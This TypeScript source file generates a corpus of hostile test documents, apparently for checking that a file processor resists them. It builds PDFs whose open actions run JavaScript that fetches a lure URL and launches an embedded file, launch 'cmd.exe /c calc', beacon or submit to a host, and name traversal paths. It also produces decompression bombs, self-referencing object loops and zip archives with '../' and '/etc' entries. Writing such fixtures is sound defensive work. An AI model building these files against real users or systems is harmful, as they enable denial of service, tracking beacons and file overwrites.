import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { ascii, le32 } from './hostile-boxes.ts';
import type { HostileFile, Lures } from './hostile-corpus.ts';

/** A PDF (ISO 32000-1) of numbered objects, with a true table and the first object as its catalogue. */
export function pdf(objects: readonly (string | Buffer)[]): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let at = 9;
  for (const [n, object] of objects.entries()) {
    const part = Buffer.concat([ascii(`${n + 1} 0 obj\n`), Buffer.from(object), ascii('\nendobj\n')]);
    places.push(at);
    at += part.length;
    parts.push(part);
  }
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.concat([
    ...parts,
    ascii(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  ]);
}

export const stream = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat([ascii(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, ascii('\nendstream')]);

/** A document of one page; `catalogue`, `page` and `content` are added to what it needs. */
export function onePage(catalogue: string, page = '', content = '', ...more: (string | Buffer)[]): Buffer {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${page.includes('/MediaBox') ? '' : '/MediaBox [0 0 200 100]'} /Contents 4 0 R ${page} >>`,
    stream('', ascii(content)),
    ...more,
  ]);
}

/** Deflated over and over: every layer makes a thousand of one. */
function deflatedTwice(bytes: number): Buffer {
  return deflateSync(deflateSync(Buffer.alloc(bytes), { level: 9 }), { level: 9 });
}

function actions({ film, http }: Lures): Record<string, Buffer> {
  const script = `(app.launchURL\\("${http}"\\); this.exportDataObject\\({cName:"x",nLaunch:2}\\); while\\(true\\){})`;
  const both = (action: string) =>
    onePage(`/OpenAction ${action} /AA << /WC ${action} /DS ${action} >>`, `/AA << /O ${action} /C ${action} >>`);
  return {
    'script.pdf': both(`<< /S /JavaScript /JS ${script} >>`),
    'script-in-names.pdf': onePage(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>`),
    'launch.pdf': both(`<< /S /Launch /F (${film}) /Win << /F (cmd.exe) /P (/c calc) >> >>`),
    'address.pdf': both(`<< /S /URI /URI (${http}/beacon) >>`),
    'submit.pdf': both(`<< /S /SubmitForm /F << /FS /URL /F (${http}/form) >> >>`),
    'go-to-remote.pdf': both(`<< /S /GoToR /F (${film}) /D [0 /Fit] >>`),
    'embedded-file.pdf': onePage(
      '/Names << /EmbeddedFiles << /Names [(../../a.exe) 5 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (../../a.exe) >> >>',
      ...(['', ''] as const),
      `<< /Type /Filespec /F (../../..${film}) /EF << /F 6 0 R >> >>`,
      stream('/Type /EmbeddedFile', ascii('MZ')),
    ),
    'stream-outside.pdf': onePage(
      '',
      '/Resources << /XObject << /X 5 0 R >> >>',
      '/X Do',
      `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (file://${film}) >> /Length 0 >>\nstream\n\nendstream`,
    ),
    'form-script.pdf': onePage(
      '/AcroForm << /Fields [5 0 R] /NeedAppearances true >>',
      '/Annots [5 0 R]',
      '',
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 90 90] /AA << /F << /S /JavaScript /JS ${script} >> /C << /S /JavaScript /JS ${script} >> >> >>`,
    ),
    'film-annotation.pdf': onePage(
      '',
      '/Annots [5 0 R]',
      '',
      `<< /Type /Annot /Subtype /Screen /Rect [0 0 90 90] /A << /S /Rendition /R << /S /MR /C << /S /MCD /D (${film}) >> >> >> >>`,
    ),
  };
}

function bombs(): Record<string, Buffer> {
  const image = (width: number, height: number, filter: string, data: Buffer) =>
    onePage(
      '',
      '/Resources << /XObject << /X 5 0 R >> >>',
      '200 0 0 100 0 0 cm /X Do',
      stream(
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter ${filter}`,
        data,
      ),
    );
  const forms = Array.from({ length: 20 }, (_, n) =>
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${6 + n} 0 R >> >>`,
      ascii('/X Do '.repeat(10)),
    ),
  );
  const last = stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9]', ascii('0 0 9 9 re f'));
  return {
    'huge-page.pdf': onePage('', '/MediaBox [0 0 2000000000 2000000000]', '0 0 9 9 re f'),
    'page-without-size.pdf': onePage('', '/MediaBox [0 0 0 0] /UserUnit 1e30'),
    'long-thin-page.pdf': onePage('', '/MediaBox [0 0 1 14400000]'),
    'image-of-four-gigapixels.pdf': image(65_535, 65_535, '/FlateDecode', deflateSync(Buffer.alloc(1000))),
    'deflate-bomb.pdf': image(20_000, 20_000, '[/FlateDecode /FlateDecode]', deflatedTwice(100_000_000)),
    'content-bomb.pdf': onePage(
      '',
      '/Contents 5 0 R',
      '',
      stream('/Filter [/FlateDecode /FlateDecode]', deflatedTwice(100_000_000)),
    ),
    'forms-of-forms.pdf': onePage('', '/Resources << /XObject << /X 5 0 R >> >>', '/X Do', ...forms, last),
    'form-of-itself.pdf': onePage(
      '',
      '/Resources << /XObject << /X 5 0 R >> >>',
      '/X Do',
      stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
        ascii('/X Do '.repeat(1000)),
      ),
    ),
    'pages-of-themselves.pdf': pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 2000000000 >>',
    ]),
    'pages-claim-millions.pdf': pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 5000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    ]),
    'pages-50000.pdf': pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Count 50000 /Kids [${'3 0 R '.repeat(50_000)}] >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    ]),
    'nested-arrays.pdf': onePage(`/X ${'['.repeat(200_000)}`),
    'table-of-itself.pdf': Buffer.from(
      '%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4000000000 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n',
    ),
    'colour-of-itself.pdf': onePage(
      '',
      '/Resources << /ColorSpace << /C 5 0 R >> >>',
      '/C cs 1 scn 0 0 99 99 re f',
      '[/Indexed 5 0 R 255 <00>]',
    ),
    'function-of-itself.pdf': onePage(
      '',
      '/Resources << /Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 5 0 R >> >> >>',
      '/S sh',
      '<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>',
    ),
    'dashes.pdf': onePage('', '', `[0.0000001 0.0000001] 0 d 0 0 m 200 100 l S `.repeat(20)),
  };
}

function archives(): Record<string, Buffer> {
  const data = deflateRawSync(Buffer.alloc(30_000_000), { level: 9 });
  const head = (name: string) =>
    Buffer.concat([
      ascii('PK\x03\x04'),
      Buffer.from([20, 0, 0, 0, 8, 0, 0, 0, 0, 0]),
      le32(0, data.length, 0xffffffff),
      Buffer.from([name.length, 0, 0, 0]),
      ascii(name),
      data,
    ]);
  return {
    'bomb.zip': Buffer.concat([head('../../a'), head('/etc/b'), head('c')]),
    'bomb.docx': head('word/document.xml'),
    'bomb.gz': gzipSync(Buffer.alloc(30_000_000), { level: 9 }),
  };
}

/** PDFs that want to run, fetch or open something or to fill the memory, and archives that grow. */
export function hostileDocuments(lures: Lures): HostileFile[] {
  const all = { ...actions(lures), ...bombs(), ...archives() };
  return Object.entries(all).map(([name, bytes]) => ({ name, bytes }));
}
